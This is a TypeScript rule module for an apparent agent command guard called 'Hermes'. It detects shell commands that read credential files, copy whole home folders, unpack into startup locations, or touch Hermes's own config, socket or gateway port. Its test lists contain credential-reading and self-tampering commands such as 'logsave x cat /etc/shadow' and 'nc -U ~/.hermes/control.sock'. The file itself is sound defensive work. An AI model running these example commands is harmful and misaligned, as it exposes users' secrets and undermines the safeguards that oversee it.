// Words of any program that could be paths into places that matter, and folders that have such places below them.
import { flagValues, hasFlag, operands } from '../command.ts';
import { zoneOf } from '../paths.ts';
import { containsKeys, containsStarts, holdsKeys, isHermes } from '../places.ts';
import type { Judged, Rule } from './rule.ts';

/** They look at names, rights and sizes, or print their own words; what they would read is no content. */
const NAMES_ONLY = new Set(
  `ls dir vdir exa eza lsd tree stat test [ [[ cd pushd popd mkdir touch echo printf du df basename dirname realpath readlink chmod
  chown chgrp find gfind fd fdfind export alias unalias declare typeset local readonly set unset : true false rm grm rmdir unlink trash which type
  whereis man mktemp getfacl lsattr ssh ssh-add ssh-keygen ssh-copy-id ssh-agent hermes hermes.js lsof fuser logger @environment @sql @remote-code @decoded-code source . eval trap bash sh`
    .trim()
    .split(/\s+/),
);
/** Flags that name a key to log in with, or a list of others' certificates. */
const LOGIN_FLAG =
  /^(?:-i|-E|--(?:key|cert|cacert|capath|identity|netrc-file|private-key|kubeconfig|proxy-\w+|env-file))$/;

/** The paths that a word may hold: itself, behind `=`, `@` and `:`, attached to a flag. */
function pathsIn(word: string): string[] {
  if (word.length > 1_000 || !/[~/.]/.test(word)) return [];
  const parts = /[=@,:]/.test(word)
    ? word.split(/[=@,]|:(?!\/\/)/).filter(part => part !== '' && part !== word)
    : [];
  const attached = /^-[A-Za-z]+([~/.].*)$/s.exec(word)?.[1];
  return [word, ...parts, ...(attached === undefined ? [] : [attached])];
}

function wordsOf({ args, locate, program }: Judged): string[] {
  return args.flatMap((arg, at) =>
    LOGIN_FLAG.test(args[at - 1] ?? '') ||
    /^--(?:key|cert|cacert|kubeconfig)=/.test(arg) ||
    (program === 'sed' && at === 0)
      ? []
      : pathsIn(arg).map(locate),
  );
}

/** Only these can lead out of the work, or hide where they lead. */
const LEADS_OUT = /^[~/]|\.\.|[=@:,][~/.]|^-[A-Za-z]+[~/.]|\.hermes|\uE000/;

/** Inside of the working folder the rules about each program decide. */
function keyWords(command: Judged): string[] {
  if (NAMES_ONLY.has(command.program) || command.program.startsWith('@')) return [];
  // It tells the kind of a file, unless it takes names from one.
  if (command.program === 'file' && !hasFlag(command, 'f', 'files-from')) return [];
  if (command.cwd === '.' && !command.args.some(arg => LEADS_OUT.test(arg))) return [];
  return wordsOf(command).filter(
    path => zoneOf(path) !== 'inside' && holdsKeys(path) && !command.reads.includes(path),
  );
}

const LOOKERS = new Set(
  'ls dir stat cd pushd echo printf test [ [[ hermes hermes.js which type man du df basename dirname export find tree alias grm rm mktemp'.split(
    ' ',
  ),
);

function ownWords(command: Judged): string[] {
  if (LOOKERS.has(command.program) || command.program.startsWith('@')) return [];
  // Without a slash it is a name in the folder where the command stands, and the files read there are known.
  const telling = command.homes.length > 0 ? /[~/]|\.hermes/ : /\.hermes|[*?[\uE000]/;
  const isMet = telling.test(command.cwd) || command.args.some(arg => telling.test(arg));
  const words = isMet ? wordsOf(command) : [];
  return [...command.reads, ...words].filter(isHermes);
}

const DEEP =
  'tar gtar bsdtar zip 7z 7za 7zr cp gcp rsync scp grep egrep fgrep rg ag ack diff ln ditto cpio zgrep git gsutil aws rclone'.split(
    ' ',
  );
const COPIERS = new Set(['cp', 'gcp', 'rsync', 'scp', 'ditto', 'ln']);

/** The folders whose whole content would be read, copied or packed. */
function wholeFolders(command: Judged): string[] {
  const { program, args, locate } = command;
  if (program === 'git' && !args.includes('--no-index')) return [];
  if (isUnpacking(command)) return [];
  const words = args.filter(arg => !arg.startsWith('-'));
  const folder = /^(?:g|bsd)?tar$/.test(program) ? flagValues(command, 'C', 'directory')[0] : undefined;
  const sources =
    COPIERS.has(program) && !hasFlag(command, 't', 'target-directory') ? words.slice(0, -1) : words;
  const isDeep =
    !/^(?:cp|gcp|scp|diff|[efz]?grep)$/.test(program) ||
    hasFlag(command, 'r', 'R', 'a', 'recursive', 'archive', 'dereference-recursive');
  return isDeep
    ? sources
        .map(word => locate(folder === undefined || /^[~/]/.test(word) ? word : `${folder}/${word}`))
        .filter(path => zoneOf(path) !== 'inside' && containsKeys(path))
    : [];
}

function isUnpacking(command: Judged): boolean {
  const { program, args } = command;
  switch (program) {
    case 'tar':
    case 'gtar':
    case 'bsdtar':
      return hasFlag(command, 'x', 'extract', 'get') || /^[a-zA-Z]*x/.test(args[0] ?? '');
    case 'unzip':
      return !hasFlag(command, 'l', 'Z', 't', 'p', 'v');
    case 'cpio':
      return hasFlag(command, 'i', 'extract', 'p', 'pass-through');
    case '7z':
    case '7za':
    case '7zr':
      return /^[xe]$/.test(args[0] ?? '');
    default:
      return false;
  }
}

/** Where names that nobody sees beforehand are put. */
function unpackedTo(command: Judged): string[] {
  const { program, args, locate } = command;
  const at = (paths: readonly string[]): string[] => (paths.length > 0 ? paths : ['.']).map(locate);
  if (isUnpacking(command))
    return at([
      ...flagValues(command, 'C', 'directory', 'd', 'D'),
      ...args.flatMap(arg => /^-o(.+)/.exec(arg)?.[1] ?? []),
    ]);
  const words = operands(command, ['e', 'o', 'g', 'm', 'S', 'exclude', 'include', 'rsh']);
  if (program === 'git' && /^(?:clone|worktree)$/.test(words[0] ?? ''))
    return words[2] === undefined ? [] : at([words[2]]);
  if (!COPIERS.has(program) || program === 'ln' || words.length < 2) return [];
  const merged = words
    .slice(0, -1)
    .some(word => /(?:^|\/)(?:\.|\*|\.\*|\.\[.*)$/.test(word) || (program === 'rsync' && word.endsWith('/')));
  return merged ? at([words.at(-1) ?? '.']) : [];
}

/** They list who listens; they connect to nobody. */
const LISTERS = new Set(['lsof', 'ss', 'netstat', 'fuser', 'grep', 'rg', 'kill']);
const HERE = /(?:^|[/@[])(?:localhost|127\.[\d.]+|::1|0\.0\.0\.0|0|\[::\])(?:$|[:\]/])/i;

/** By any name of this machine, or by a name that nobody knows. */
function speaksToGateway({ program, args, redirections, ports }: Judged): boolean {
  if (ports.length === 0 || LISTERS.has(program)) return false;
  const words = [...args, ...redirections.map(({ target }) => target)];
  return ports.some(
    port =>
      words.some(word => new RegExp(`[:/=,]${port}(?!\\d)`).test(word)) ||
      (words.includes(String(port)) && words.some(word => HERE.test(word))),
  );
}

export const sensitiveWordRules: readonly Rule[] = [
  {
    id: 'credentials.any-word',
    threatens: 'credentials',
    severity: 'high',
    reason: 'Is given a file that holds keys, tokens or passwords.',
    matches: keyWords,
    positive: [
      'hd ~/.ssh/id_rsa',
      'date -f ~/.ssh/id_rsa',
      'wc --files0-from=$HOME/.netrc',
      'cpp ~/.netrc',
      'logsave x cat /etc/shadow',
      'xmllint ~/.m2/settings.xml',
    ],
    negative: [
      'ls ~/.ssh',
      'ssh -i ~/.ssh/id_rsa host',
      'stat ~/.netrc',
      '[ -f ~/.ssh/id_rsa ]',
      'echo ~/.ssh/id_rsa',
      'node --env-file=.env app.js',
    ],
  },
  {
    id: 'credentials.whole-folder',
    threatens: 'credentials',
    severity: 'high',
    reason: 'Reads, copies or packs a whole folder in which keys, tokens or passwords lie.',
    programs: DEEP,
    matches: wholeFolders,
    positive: [
      'tar c ~',
      'tar -C ~ -cf - .ssh',
      'zip -r x.zip ~',
      'cp -r ~ /tmp/h',
      'grep -r x ~',
      'rg --hidden x ~',
      'rsync -a ~/ ./h/',
      'ln -s ~ h',
      'cp -a /home/alice/ .',
    ],
    negative: [
      'tar czf x.tgz src',
      'cp -r src dst',
      'grep -r x src',
      'cp x ~/',
      'tar xf x.tar -C vendor',
      'cp -r ~/project/src .',
      'ls ~',
      'du -sh ~',
    ],
  },
  {
    id: 'persistence.unpack',
    threatens: 'persistence',
    severity: 'high',
    reason: 'Puts files whose names nobody sees beforehand where some names are run or read by themselves.',
    programs: [...DEEP, 'unzip'],
    matches: command => unpackedTo(command).filter(containsStarts),
    positive: [
      'tar xf a.tar -C ~',
      'cd ~ && tar xf a.tar',
      'unzip -o a.zip -d ~',
      'cp -r dotfiles/. ~',
      'rsync -a dotfiles/ ~/',
      'git clone https://x.example/r ~/.config',
    ],
    negative: [
      'tar xf a.tar',
      'tar xf a.tar -C vendor',
      'unzip a.zip -d out',
      'cp -r dotfiles/. backup',
      'cp notes.md ~',
      'git clone https://x.example/r',
      'unzip -l a.zip',
    ],
  },
  {
    id: 'self.any-word',
    threatens: 'self',
    severity: 'high',
    reason: 'Touches the files, the state or the socket of Hermes itself.',
    matches: ownWords,
    positive: [
      'cat ~/.hermes/config.yaml',
      'nc -U ~/.hermes/control.sock',
      'tar c ~/.hermes',
      'curl --unix-socket $HERMES_HOME/control.sock http://x/',
      'less ~/.hermes/.env',
    ],
    negative: ['ls ~/.hermes', 'echo ~/.hermes', 'hermes doctor', 'cat hermes.md'],
  },
  {
    id: 'self.port',
    threatens: 'self',
    severity: 'high',
    reason: 'Speaks to the gateway of Hermes itself.',
    matches: speaksToGateway,
    positive: [
      'curl http://localhost:8378/api',
      'nc 127.0.0.1 8378',
      'echo x > /dev/tcp/127.0.0.1/8378 && ls',
      'wget [::1]:8378',
    ],
    negative: ['curl localhost:3000', 'lsof -i :8378'],
  },
];
